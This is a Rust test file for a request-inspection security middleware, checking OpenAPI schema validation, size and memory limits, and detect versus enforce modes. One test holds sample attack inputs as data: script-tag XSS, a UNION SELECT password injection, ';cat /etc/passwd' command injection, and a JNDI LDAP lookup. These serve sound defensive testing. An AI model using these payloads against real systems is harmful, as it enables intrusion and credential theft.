//! Schemas over real connections, through axum and through plain hyper: for each feature a good and a
//! bad request, and what the client is told. The rows are `tests/data/schema.toml`.

#![cfg(feature = "schema")]

mod server;

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::net::SocketAddr;

use axum::Router;
use axum::routing::any;
use bytes::Bytes;
use http::{Request, Response};
use http_body_util::{BodyExt, Full};
use serde::Deserialize;
use tower::{Layer, service_fn};
use tower_rasp::{Action, Body, Mode, Rasp, RaspLayer};

use server::{full, http1, serve, text};

/// One row: an operation, a request that passes and one that does not.
#[derive(Deserialize)]
struct Case {
    feature: String,
    /// `POST /notes/{id}`.
    operation: String,
    /// The operation, as YAML.
    declares: String,
    good: String,
    bad: String,
    #[serde(default = "unprocessable")]
    status: u16,
    keyword: String,
    location: String,
    /// A header that the answer must have.
    #[serde(default)]
    answer: Option<String>,
    #[serde(default)]
    undeclared: Option<String>,
    #[serde(default = "openapi_version")]
    version: String,
    #[serde(default = "own_server")]
    servers: String,
    /// The configuration, where it is another than one for the document `api.yaml`.
    #[serde(default)]
    config: Option<String>,
    /// Other files beside it, by name.
    #[serde(default)]
    files: BTreeMap<String, String>,
}

const fn unprocessable() -> u16 {
    422
}

/// Parents that name their children in `oneOf`, each of which holds its parent in `allOf`.
const CIRCLES: &str = "    \
    Pet: { type: object, required: [kind], properties: { kind: { type: string }, name: { type: string } }, \
    oneOf: [{ $ref: '#/components/schemas/Puss' }, { $ref: '#/components/schemas/Hound' }], \
    discriminator: { propertyName: kind, mapping: { p: '#/components/schemas/Puss', h: Hound } } }\n    \
    Puss: { allOf: [{ $ref: '#/components/schemas/Pet' }, { properties: { meow: { type: boolean } } }] }\n    \
    Hound: { allOf: [{ $ref: '#/components/schemas/Pet' }], required: [bark], \
    properties: { bark: { type: integer }, friend: { $ref: '#/components/schemas/Pet' } } }\n    \
    Form: { type: object, nullable: true, properties: { kind: { type: string } }, discriminator: { propertyName: kind }, \
    anyOf: [{ $ref: '#/components/schemas/Disc' }, { $ref: '#/components/schemas/Tile' }] }\n    \
    Disc: { allOf: [{ $ref: '#/components/schemas/Form' }, { required: [radius], properties: { radius: { type: integer } } }] }\n    \
    Tile: { allOf: [{ $ref: '#/components/schemas/Form' }, { required: [side], properties: { side: { type: integer } } }, \
    { oneOf: [{ $ref: '#/components/schemas/Plain' }, { $ref: '#/components/schemas/Glazed' }] }] }\n    \
    Plain: { required: [plain] }\n    \
    Glazed: { required: [glaze], properties: { glaze: { type: string } } }\n    \
    Beast: { type: object, required: [kind], properties: { kind: { type: string } }, discriminator: { propertyName: kind }, \
    oneOf: [{ $ref: '#/components/schemas/Feline' }, { $ref: '#/components/schemas/Cow' }] }\n    \
    Feline: { allOf: [{ $ref: '#/components/schemas/Beast' }], properties: { claws: { type: integer } }, \
    discriminator: { propertyName: kind }, oneOf: [{ $ref: '#/components/schemas/Lion' }] }\n    \
    Lion: { allOf: [{ $ref: '#/components/schemas/Feline' }], properties: { mane: { type: boolean } } }\n    \
    Cow: { allOf: [{ $ref: '#/components/schemas/Beast' }], properties: { milk: { type: integer } } }\n";

fn openapi_version() -> String {
    "3.1.0".to_owned()
}

fn own_server() -> String {
    "[{ url: /api }]".to_owned()
}

#[derive(Deserialize)]
struct Cases {
    case: Vec<Case>,
}

fn cases() -> Vec<Case> {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/schema.toml")).expect("rows");
    toml::from_str::<Cases>(&text).expect("rows").case
}

impl Case {
    /// An operation by itself.
    fn of(operation: &str, declares: &str) -> Self {
        Self {
            feature: operation.to_owned(),
            operation: operation.to_owned(),
            declares: declares.to_owned(),
            good: String::new(),
            bad: String::new(),
            status: unprocessable(),
            keyword: String::new(),
            location: String::new(),
            answer: None,
            undeclared: None,
            version: openapi_version(),
            servers: own_server(),
            config: None,
            files: BTreeMap::new(),
        }
    }

    fn template(&self) -> &str {
        self.operation.split_once(' ').expect("a method and a template").1
    }

    fn layer(&self, mode: Mode) -> RaspLayer {
        let (method, template) = self.operation.split_once(' ').expect("a method and a template");
        let declares: String = self.declares.lines().map(|line| format!("      {line}\n")).collect();
        let document = format!(
            "openapi: {}\ninfo: {{ title: t, version: '1' }}\nservers: {}\n\
             components:\n  securitySchemes:\n    token: {{ type: http, scheme: bearer }}\n    \
             password: {{ type: http, scheme: basic }}\n    key: {{ type: apiKey, in: header, name: x-key }}\n    \
             query-key: {{ type: apiKey, in: query, name: key }}\n    \
             session: {{ type: apiKey, in: cookie, name: sid }}\n  schemas:\n    \
             Note: {{ type: object, properties: {{ n: {{ type: integer }}, next: {{ $ref: '#/components/schemas/Note' }} }} }}\n    \
             Cat: {{ type: object, properties: {{ kind: {{ type: string }}, meow: {{ type: boolean }} }} }}\n    \
             Dog: {{ type: object, required: [bark], properties: {{ kind: {{ type: string }}, bark: {{ type: integer }} }} }}\n    \
             Tool: {{ type: object, required: [kind], properties: {{ kind: {{ type: string }} }}, \
             discriminator: {{ propertyName: kind, mapping: {{ drill: '#/components/schemas/Drill' }} }} }}\n    \
             Saw: {{ allOf: [{{ $ref: '#/components/schemas/Tool' }}, {{ properties: {{ teeth: {{ type: integer }} }} }}] }}\n    \
             Drill: {{ allOf: [{{ $ref: '#/components/schemas/Tool' }}, {{ required: [bit], properties: {{ bit: {{ type: string }} }} }}] }}\n{CIRCLES}\
             paths:\n  {template}:\n    {}:\n{declares}",
            self.version,
            self.servers,
            method.to_lowercase()
        );
        let directory = std::env::temp_dir().join(format!("tower-rasp-schema-{}-{:p}", std::process::id(), self));
        std::fs::create_dir_all(&directory).expect("a directory");
        std::fs::write(directory.join("api.yaml"), document).expect("a document");
        let undeclared = self.undeclared.as_ref().map_or_else(String::new, |action| format!("undeclared = {action}\n"));
        let of_document = || format!("[[schema]]\nopenapi = \"api.yaml\"\n{undeclared}");
        let config = self.config.clone().unwrap_or_else(of_document);
        for (name, text) in &self.files {
            std::fs::write(directory.join(name), text).expect("a file");
        }
        std::fs::write(directory.join("rasp.toml"), config).expect("a configuration");
        let rasp = Rasp::builder().config_path(directory.join("rasp.toml")).mode(mode).build();
        let rasp = rasp.unwrap_or_else(|error| panic!("{}: {error}", self.feature));
        std::fs::remove_dir_all(&directory).expect("ours to remove");
        rasp.layer()
    }
}

/// An axum service that answers what it read.
async fn axum_server(template: &str, layer: RaspLayer) -> SocketAddr {
    let echo = any(|body: Bytes| async move { body });
    // The names of parameters are the framework's own.
    let names: String = template.replace('{', "{its_");
    serve_axum(Router::new().route(&format!("/api{names}"), echo.clone()).fallback(echo).layer(layer)).await
}

async fn serve_axum(app: Router) -> SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a free port");
    let address = listener.local_addr().expect("an address");
    tokio::spawn(async move { axum::serve(listener, app).await });
    address
}

/// A hyper service without routes that answers what it read.
async fn hyper_server(layer: RaspLayer) -> SocketAddr {
    let echo = service_fn(|request: Request<Body<hyper::body::Incoming>>| async move {
        let read = request.into_body().collect().await.map(|body| body.to_bytes()).unwrap_or_default();
        Ok::<_, Infallible>(Response::new(Full::new(read)))
    });
    serve(layer.layer(echo)).await
}

/// A request as its row writes it: the first line, headers, an empty line, the body.
fn parse(raw: &str, address: SocketAddr) -> Request<server::Boxed> {
    let raw = raw.trim_start_matches('\n');
    let (head, body) = raw.split_once("\n\n").unwrap_or((raw.trim_end_matches('\n'), ""));
    let mut lines = head.lines();
    let (method, target) = lines.next().and_then(|line| line.split_once(' ')).expect("a first line");
    let mut request = server::request(method, address, target);
    for line in lines {
        let (name, value) = line.split_once(": ").expect("a header");
        if name == "host" {
            request.headers_mut().expect("a request").remove(name);
            request = request.uri(format!("http://{value}{target}"));
        }
        request = request.header(name, value);
    }
    let body = body.replace('\n', "\r\n");
    request.body(if body.is_empty() { server::empty() } else { full(body) }).expect("a request")
}

#[tokio::test]
async fn each_feature_passes_the_good_and_refuses_the_bad() {
    let mut wrong = Vec::new();
    for case in cases() {
        let layer = case.layer(Mode::Enforce);
        for (kind, address) in
            [("axum", axum_server(case.template(), layer.clone()).await), ("hyper", hyper_server(layer.clone()).await)]
        {
            let good = http1(address, parse(&case.good, address)).await;
            if good.status() != 200 {
                wrong.push(format!("{kind}: {}: the good one is refused: {}", case.feature, text(good).await));
            }
            let bad = http1(address, parse(&case.bad, address)).await;
            if let Err(why) = refused(&case, bad).await {
                wrong.push(format!("{kind}: {}: {why}", case.feature));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

async fn refused(case: &Case, response: Response<hyper::body::Incoming>) -> Result<(), String> {
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let body = text(response).await;
    if status != case.status {
        return Err(format!("the bad one gets {status}: {body}"));
    }
    if let Some((name, value)) = case.answer.as_deref().and_then(|answer| answer.split_once(": ")) {
        let got = headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
        (got == value).then_some(()).ok_or_else(|| format!("{name} is {got:?}"))?;
    }
    if case.bad.starts_with("HEAD ") {
        return Ok(());
    }
    let problem: serde_json::Value = serde_json::from_str(&body).map_err(|error| format!("{error}: {body}"))?;
    let errors = problem["errors"].as_array().ok_or_else(|| body.clone())?;
    // Parameters of the path bear the framework's name there.
    let is_there = |error: &serde_json::Value| {
        let location = error["location"].as_str().unwrap_or_default().replace("its_", "");
        error["keyword"] == case.keyword.as_str() && location == case.location
    };
    errors.iter().any(is_there).then_some(()).ok_or(body)
}

#[tokio::test]
async fn in_mode_detect_every_byte_passes() {
    for case in cases() {
        let address = hyper_server(case.layer(Mode::Detect)).await;
        let request = parse(&case.bad, address);
        let (parts, body) = request.into_parts();
        let sent = body.collect().await.expect("a body").to_bytes();
        let response = http1(address, Request::from_parts(parts, full(sent.clone()))).await;
        assert_eq!(response.status(), 200, "{}", case.feature);
        let read = response.into_body().collect().await.expect("a body").to_bytes();
        assert!(case.bad.starts_with("HEAD ") || read == sent, "{}", case.feature);
    }
}

/// Of these a body says itself which it is.
const USUAL_TYPES: [&str; 3] = [
    "content-type: application/json",
    "content-type: application/x-www-form-urlencoded",
    "content-type: multipart/form-data; boundary=xx",
];

impl Case {
    /// What the docs say of a request: all of it but what its operation says already.
    fn cell(&self, raw: &str) -> String {
        let raw = raw.trim_matches('\n');
        let (head, body) = raw.split_once("\n\n").unwrap_or((raw, ""));
        let is_untyped = !body.is_empty() && !head.contains("content-type: ");
        let operation = self.operation.replace(' ', " /api");
        let is_said = |line: &str| line == operation || USUAL_TYPES.contains(&line);
        let lines = head.lines().filter(|line| body.is_empty() || !is_said(line));
        let body = body.lines().filter(|line| !line.is_empty() && !line.starts_with("--"));
        let cells: Vec<String> = lines.chain(body).map(|line| format!("`{}`", line.replace('|', "\\|"))).collect();
        format!("{}{}", if is_untyped { "no content-type, " } else { "" }, cells.join(", "))
    }

    /// The row of the docs.
    fn row(&self) -> String {
        let (good, bad) = (self.cell(&self.good), self.cell(&self.bad));
        format!("| {} | {good} | {bad} | {} `{}` at `{}` |", self.feature, self.status, self.keyword, self.location)
    }
}

/// Where it fails, the rows of the docs are those that it prints.
#[test]
fn the_docs_have_the_same_rows() {
    let docs = include_str!("../src/schema/features.md");
    let is_row = |line: &&str| line.starts_with("| ") && !line.starts_with("| feature");
    let rows: Vec<&str> = docs.lines().filter(is_row).collect();
    let expected: Vec<String> = cases().iter().map(Case::row).collect();
    assert!(rows == expected, "the docs should say\n{}", expected.join("\n"));
}

#[tokio::test]
async fn a_route_of_the_framework_that_takes_the_rest_hides_no_operation() {
    let id = "parameters: [{ name: id, in: path, required: true, schema: { type: integer } }]";
    let layer = Case::of("POST /gateway/users/{id}", id).layer(Mode::Enforce);
    let app = Router::new().route("/api/gateway/{*rest}", any(|body: Bytes| async move { body })).layer(layer);
    let address = serve_axum(app).await;
    for (target, status) in [("/api/gateway/users/1", 200), ("/api/gateway/users/x", 422), ("/api/gateway/x", 200)] {
        let request = server::request("POST", address, target).body(server::empty()).expect("a request");
        assert_eq!(http1(address, request).await.status(), status, "{target}");
    }
}

/// A note whose text no schema pins.
fn notes() -> tower_rasp::RaspBuilder {
    let schema = serde_json::json!({
        "type": "object",
        "properties": { "id": { "type": "integer" }, "text": { "type": "string" } },
    });
    Rasp::builder().json_schema(http::Method::POST, "/notes", schema)
}

async fn post(address: SocketAddr, content_type: &str, body: impl Into<Bytes>) -> Response<hyper::body::Incoming> {
    let request = server::request("POST", address, "/notes").header("content-type", content_type);
    http1(address, request.body(full(body)).expect("a request")).await
}

#[tokio::test]
async fn an_attack_decides_over_what_a_schema_refuses() {
    let address = hyper_server(notes().build().expect("a schema").layer()).await;
    let attack = server::ATTACK;
    for (name, body, status) in [
        ("good", r#"{"id": 1, "text": "hello"}"#.to_owned(), 200),
        ("invalid", r#"{"id": "x", "text": "hello"}"#.to_owned(), 422),
        ("an attack", format!(r#"{{"id": 1, "text": "{attack}"}}"#), 403),
        ("an attack beside what is invalid", format!(r#"{{"id": "x", "text": "{attack}"}}"#), 403),
        ("an attack in what would be pinned", format!(r#"{{"id": "{attack}"}}"#), 403),
        ("an attack in what is broken off", format!(r#"{{"text": "{attack}""#), 403),
        ("an attack as a name", format!(r#"{{"{attack}": 1}}"#), 403),
    ] {
        assert_eq!(post(address, "application/json", body).await.status(), status, "{name}");
    }
}

#[tokio::test]
async fn a_body_with_a_schema_that_cannot_be_held_is_too_large() {
    let large = format!(r#"{{"text": "{}"}}"#, "a".repeat(400_000));
    let address = hyper_server(notes().build().expect("a schema").layer()).await;
    assert_eq!(post(address, "application/json", large.clone()).await.status(), 413);
    assert_eq!(post(address, "text/plain", large.clone()).await.status(), 415, "no schema speaks of it");
    let address = hyper_server(notes().mode(Mode::Detect).build().expect("a schema").layer()).await;
    assert_eq!(text(post(address, "application/json", large.clone()).await).await, large);
}

/// What has more in it than is looked at, each with a value that its schema refuses.
fn past_the_limits(pad: usize) -> [(&'static str, String); 3] {
    let (open, close) = ("[".repeat(pad / 800), "]".repeat(pad / 800));
    let part = |name: &str, value: &str, more: &str| {
        format!("--xx\r\ncontent-disposition: form-data; name=\"{name}\"\r\n{more}\r\n{value}\r\n")
    };
    let header = format!("x-long: {}\r\n", "a".repeat(pad / 6));
    [
        ("application/json", format!(r#"{{"id": "x", "more": {open}{close}}}"#)),
        ("application/x-www-form-urlencoded", format!("id=x{}", "&a".repeat(pad))),
        ("multipart/form-data; boundary=xx", part("id", "x", &header) + "--xx--\r\n"),
    ]
}

#[tokio::test]
async fn what_is_past_a_limit_is_refused_and_not_handed_on() {
    let schema = "{ type: object, properties: { id: { type: integer } } }";
    let declares = format!(
        "requestBody: {{ content: {{ application/json: {{ schema: {schema} }}, multipart/form-data: {{ schema: \
         {schema} }}, application/x-www-form-urlencoded: {{ schema: {schema} }} }} }}"
    );
    let case = |undeclared: &str| Case {
        status: 413,
        keyword: "unvalidated".to_owned(),
        location: "body".to_owned(),
        undeclared: Some(undeclared.to_owned()),
        ..Case::of("POST /notes", &declares)
    };
    for undeclared in ["{ fields = \"pass\" }", "\"strict\""] {
        let (case, detect) = (case(undeclared), case(undeclared));
        let layer = case.layer(Mode::Enforce);
        let addresses = [hyper_server(layer.clone()).await, axum_server("/notes", layer).await];
        let silent = hyper_server(detect.layer(Mode::Detect)).await;
        for ((content_type, past), (_, within)) in past_the_limits(120_000).into_iter().zip(past_the_limits(10)) {
            let post = async |address, body: &str| {
                let request = server::request("POST", address, "/api/notes").header("content-type", content_type);
                http1(address, request.body(full(body.to_owned())).expect("a request")).await
            };
            for address in addresses {
                let refused = refused(&case, post(address, &past).await).await;
                assert_eq!(refused, Ok(()), "{content_type}");
                assert_eq!(post(address, &within).await.status(), 422, "{content_type}");
            }
            assert_eq!(text(post(silent, &past).await).await, past, "{content_type}");
        }
    }
}

#[tokio::test]
async fn a_body_with_a_schema_that_there_is_no_memory_for_is_refused() {
    let builder = |mode| notes().config_text("[limits]\ninspection_memory_bytes_max = 262_144").mode(mode);
    let address = hyper_server(builder(Mode::Enforce).build().expect("a schema").layer()).await;
    let large = format!(r#"{{"id": "x", "text": "{}"}}"#, "a".repeat(200_000));
    let response = post(address, "application/json", large.clone()).await;
    assert_eq!(response.status(), 503);
    assert_eq!(response.headers().get("retry-after").map(http::HeaderValue::as_bytes), Some(&b"1"[..]));
    assert!(text(response).await.contains("no_memory"));
    assert_eq!(post(address, "application/json", r#"{"id": "x"}"#).await.status(), 422);
    assert_eq!(post(address, "application/json", r#"{"id": 1}"#).await.status(), 200);
    let address = hyper_server(builder(Mode::Detect).build().expect("a schema").layer()).await;
    assert_eq!(text(post(address, "application/json", large.clone()).await).await, large);
    // Who wants it otherwise says so.
    let config = "[limits]\ninspection_memory_bytes_max = 262_144\n[rule_mode]\n\"schema.no_memory\" = \"detect\"";
    let address = hyper_server(notes().config_text(config).build().expect("a schema").layer()).await;
    assert_eq!(text(post(address, "application/json", large.clone()).await).await, large);
}

#[tokio::test]
async fn a_body_that_says_it_is_of_grpc_is_held_where_a_schema_speaks_of_it() {
    let declares =
        "requestBody: { content: { '*/*': { schema: { type: object, properties: { n: { type: integer } } } } } }";
    let case = Case {
        good: "POST /api/notes\ncontent-type: application/grpc\n\n{\"n\": 1}".to_owned(),
        bad: "POST /api/notes\ncontent-type: application/grpc\n\n{\"n\": \"x\"}".to_owned(),
        ..Case::of("POST /notes", declares)
    };
    let address = hyper_server(case.layer(Mode::Enforce)).await;
    assert_eq!(text(http1(address, parse(&case.good, address)).await).await, "{\"n\": 1}");
    let response = http1(address, parse(&case.bad, address)).await;
    assert_eq!(response.headers()["grpc-status"], "3");
}

#[tokio::test]
async fn the_answer_can_be_the_services_own() {
    let layer = notes().build().expect("a schema").layer().respond_invalid(|errors, _| {
        let mut response = Response::new(Bytes::from(format!("{} {}", errors[0].location, errors[0].keyword)));
        *response.status_mut() = http::StatusCode::BAD_REQUEST;
        response
    });
    let address = hyper_server(layer).await;
    let response = post(address, "application/json", r#"{"id": "x"}"#).await;
    assert_eq!((response.status().as_u16(), text(response).await.as_str()), (400, "body./id type"));
}

#[test]
fn declared_content_silences_what_is_everyday_there_and_nothing_more() {
    let schema = serde_json::json!({ "type": "object", "properties": {
        "html": { "type": "string", "x-rasp-content": "html" },
        "markdown": { "type": "string", "format": "markdown" },
        "code": { "type": "string", "x-rasp-content": "code" },
        "sql": { "type": "string", "x-rasp-content": "sql" },
        "plain": { "type": "string" },
    } });
    let rasp = Rasp::builder().json_schema(http::Method::POST, "/x", schema).build().expect("it builds");
    for (field, value, action) in [
        ("html", "<p>see <a href=\"http://127.0.0.1/x\">this</a></p>", Action::Pass),
        ("html", "x onmouseover=f(1)", Action::Pass),
        ("plain", "x onmouseover=f(1)", Action::Block),
        ("html", "<script>f(1)</script>", Action::Block),
        ("html", "<img src=x onerror=f(1)>", Action::Block),
        ("html", "1 UNION SELECT password FROM users", Action::Block),
        ("markdown", "x onmouseover=f(1)", Action::Pass),
        ("markdown", "[x](javascript:f(1))<script>f(1)</script>", Action::Block),
        ("markdown", ";cat /etc/passwd", Action::Block),
        ("code", "<script>f(1)</script>", Action::Pass),
        ("code", ";cat /etc/passwd", Action::Pass),
        ("code", "${jndi:ldap://x.example/a}", Action::Block),
        ("sql", "1 UNION SELECT password FROM users", Action::Pass),
        ("sql", "<script>f(1)</script>", Action::Block),
    ] {
        let body = serde_json::json!({ field: value }).to_string();
        let request = http::Request::post("/x").header("content-type", "application/json").body(body.into());
        let verdict = rasp.inspect(&request.expect("a request"));
        assert_eq!(verdict.action, action, "{field}: {value}");
    }
}

#[test]
fn past_the_work_that_a_request_may_cost_it_is_incomplete() {
    let schema = serde_json::json!({ "items": { "anyOf": [{ "type": "string" }, { "minimum": 0 }] } });
    let body = serde_json::json!((0..2_000).collect::<Vec<_>>()).to_string();
    for (limit, whole) in [(1_000, false), (1_000_000, true)] {
        let config = format!("[limits]\nschema_work_max = {limit}");
        let builder = Rasp::builder().config_text(config);
        let rasp = builder.json_schema(http::Method::POST, "/x", schema.clone()).build().expect("it builds");
        let request = http::Request::post("/x").header("content-type", "application/json").body(body.clone().into());
        let verdict = rasp.inspect(&request.expect("a request"));
        assert_eq!(verdict.completeness.to_string() == "whole", whole, "{limit}: {}", verdict.completeness);
        assert!(whole || verdict.completeness.to_string().contains("budget"));
        assert_eq!(verdict.action == Action::Pass, whole, "what could not be validated is refused");
    }
}

#[test]
fn past_the_failures_that_are_told_one_stands_for_the_rest() {
    let schema =
        serde_json::json!({ "properties": { "list": { "items": { "maxLength": 1 } }, "id": { "minimum": 1 } } });
    let rasp = |config: &str| {
        let builder = Rasp::builder().config_text(config);
        builder.json_schema(http::Method::POST, "/x", schema.clone()).build().expect("it builds")
    };
    let inspect = |rasp: &Rasp, long: usize, id: i32| {
        let body = serde_json::json!({ "list": vec!["too long"; long], "id": id }).to_string();
        let request = http::Request::post("/x").header("content-type", "application/json").body(body.into());
        let verdict = rasp.inspect(&request.expect("a request"));
        let told: Vec<_> = verdict.findings.iter().map(|one| one.finding.rule.id.clone()).collect();
        let count = |id: &str| told.iter().filter(|rule| *rule == id).count();
        (verdict.action, count("schema.max_length"), count("schema.more_failures"))
    };
    let plain = rasp("");
    assert_eq!(inspect(&plain, 32, 1), (Action::Block, 32, 0));
    assert_eq!(inspect(&plain, 33, 1), (Action::Block, 32, 1));
    let few = rasp("[limits]\nschema_failures_max = 3");
    assert_eq!(inspect(&few, 3, 1), (Action::Block, 3, 0));
    assert_eq!(inspect(&few, 4, 1), (Action::Block, 3, 1));
    // What is taken out hides nothing behind it.
    let exclusion = "[limits]\nschema_failures_max = 3\n[[exclusion]]\nrule = \"schema.max_length\"\nlocation = \"body./list/*\"\nreason = \"old clients\"\n";
    let excluded = rasp(exclusion);
    assert_eq!(inspect(&excluded, 3, 1), (Action::Pass, 0, 0));
    assert_eq!(inspect(&excluded, 9, 0).0, Action::Block);
    // An attack has its place among the findings however much fails.
    let detect = rasp("[limits]\nfindings_max = 1\nschema_failures_max = 256\n[category]\nschema = \"detect\"");
    let body = serde_json::json!({ "list": vec!["too long"; 300], "q": server::ATTACK }).to_string();
    let request = http::Request::post("/x").header("content-type", "application/json").body(body.into());
    assert_eq!(detect.inspect(&request.expect("a request")).action, Action::Block);
}

#[test]
fn a_body_of_no_bytes_is_what_its_media_type_makes_of_it() {
    let document = serde_json::json!({
        "openapi": "3.1.0",
        "paths": { "/x": { "post": { "requestBody": { "required": true, "content": {
            "application/json": { "schema": {} },
            "application/x-www-form-urlencoded": { "schema": { "type": "object", "required": ["a"] } },
            "text/plain": { "schema": { "type": "string" } },
            "text/csv": { "schema": { "type": "string", "minLength": 1 } },
            "application/octet-stream": {},
        } } } } },
    });
    let rasp = Rasp::builder().openapi(&document).build().expect("it builds");
    for (content_type, passes) in [
        ("application/json", false),
        ("application/x-www-form-urlencoded", false),
        ("text/plain", true),
        ("text/csv", false),
        ("application/octet-stream", true),
    ] {
        let request = http::Request::post("/x").header("content-type", content_type).body(bytes::Bytes::new());
        let verdict = rasp.inspect(&request.expect("a request"));
        assert_eq!(verdict.action == Action::Pass, passes, "{content_type}: {verdict:?}");
    }
    let request = http::Request::post("/x").body(bytes::Bytes::new()).expect("a request");
    assert_ne!(rasp.inspect(&request).action, Action::Pass, "none at all");
}
